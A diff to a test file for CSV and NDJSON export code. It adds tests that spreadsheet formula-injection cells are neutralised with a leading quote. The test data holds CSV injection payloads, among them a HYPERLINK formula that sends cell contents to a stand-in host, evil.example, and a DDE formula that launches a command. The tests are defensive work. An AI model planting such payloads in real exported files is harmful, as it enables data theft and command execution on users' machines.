@@ -10,7 +10,7 @@ describe('export formats', () => {
       'merchant.name': 'Oxxo',
       'merchant.address.city': 'CDMX',
       labels: '[{"id":1}]',
-      amount: '12.5',
+      amount: 12.5,
       locked: 'false',
       note: '',
     });
@@ -39,6 +39,30 @@ describe('export formats', () => {
     expect(first).toEqual({ text: 'a\n1\n', columns: ['a'] });
     expect(encodePage('csv', [{ a: 2, b: 3 }], first.columns)).toEqual({ text: '2\n', columns: ['a'] });
     expect(encodePage('ndjson', [{ a: 1 }], undefined)).toEqual({ text: '{"a":1}\n' });
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas (OWASP): a leading quote, and the cell quoted', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '+1+cmd|\' /C calc\'!A0',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      '\uFF1D1+1',
+    ];
+    const csv = csvRows(hostile.map((name) => ({ name, amount: -12.5 })), ['name', 'amount'], true);
+    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.5`);
+    // Read back by a CSV parser, each cell is the text behind a single quote: a spreadsheet shows it, never runs it.
+    const records = parse(csv, { columns: true }) as { name: string; amount: string }[];
+    expect(records.map((record) => record.name)).toEqual(hostile.map((name) => `'${name}`));
+    expect(records.map((record) => record.amount)).toEqual(hostile.map(() => '-12.5')); // a JSON number stays a number
+    expect(csvRows([{ name: 'Ana', note: 'a - b = c', mail: 'ana@example.com' }], ['name', 'note', 'mail'], false)).toBe('Ana,a - b = c,ana@example.com\n');
+  });
+
+  it('neutralises a hostile column name in the header too', () => {
+    const item = { '=cmd()': 'x' };
+    expect(csvRows([item], csvColumns(item), true)).toBe(`"'=cmd()"\nx\n`);
   });
 
   it('writes NDJSON: one JSON document per line', () => {
